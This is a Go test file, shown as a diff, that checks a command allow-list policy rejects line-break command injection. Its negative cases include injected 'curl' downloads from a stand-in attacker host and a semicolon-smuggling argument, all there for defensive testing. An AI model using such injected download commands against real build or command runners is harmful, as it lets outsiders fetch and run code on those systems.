@@ -0,0 +1,35 @@
+package main
+
+import "testing"
+
+// TestCommandPolicyMatchesDispatchedCommand checks that commands are matched as they will run, so a line break
+// can't smuggle a second command in after an allowed one
+func TestCommandPolicyMatchesDispatchedCommand(t *testing.T) {
+	policy, err := newCommandPolicy(&CommandPolicyConfig{AllowedCommands: []string{"make build BRANCH={ref}"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tc := range []struct {
+		command string
+		allowed bool
+	}{
+		{BuildCommand, true},
+		{BuildCommand + " --pull", true},
+		{"git checkout 'feature/add-metadata'", true},
+		{"make build BRANCH='feature/add-metadata'", true},
+		{BuildCommand + "\ncurl -o /tmp/x evil.example/x", false},
+		{BuildCommand + "\r\ncurl -o /tmp/x evil.example/x", false},
+		{BuildCommand + "\t--pull", false},
+		{"git checkout 'a;b'", false},
+	} {
+		if got := policy.allows(tc.command); got != tc.allowed {
+			t.Errorf("allows(%q) = %v, want %v", tc.command, got, tc.allowed)
+		}
+	}
+
+	err = policy.check(PoppitCommand{Commands: []string{"git fetch origin", BuildCommand + "\ncurl -o /tmp/x evil.example/x"}})
+	if err == nil {
+		t.Error("expected a command with a line break to be rejected")
+	}
+}